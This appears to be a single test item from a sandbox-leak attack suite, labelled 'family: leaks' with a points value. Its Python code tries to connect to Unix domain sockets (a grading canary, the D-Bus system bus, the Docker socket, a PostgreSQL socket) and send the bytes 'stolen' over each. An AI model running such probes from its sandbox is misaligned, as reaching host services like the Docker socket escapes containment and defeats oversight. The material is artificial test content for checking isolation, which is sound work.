# attack: calls other processes at sockets with names, on paths and abstract
# family: leaks
# base: solved
# points: 7
# %% last
import socket
for name in ("CANARY/socket", "\0grading-canary-PORT", "/run/dbus/system_bus_socket", "/var/run/docker.sock", "/tmp/.s.PGSQL.5432"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            line = socket.socket(socket.AF_UNIX, kind)
            line.connect(name)
            line.send(b"stolen")
        except OSError as error:
            print(error)
